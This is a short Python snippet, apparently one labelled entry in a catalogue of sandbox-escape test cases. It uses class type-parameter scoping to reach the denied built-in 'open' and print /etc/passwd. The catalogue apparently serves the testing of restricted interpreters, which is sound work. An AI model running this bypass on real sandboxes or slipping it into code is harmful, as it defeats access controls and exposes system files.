# class: built-ins
# mechanism: denied built-in as a value
# how: a type parameter that the class body does not see, since it binds the name itself further down
# reaches: reads /etc/passwd
class Loader[open]:
    read = staticmethod(open)
    open = 3
print(Loader.read("/etc/passwd").read())
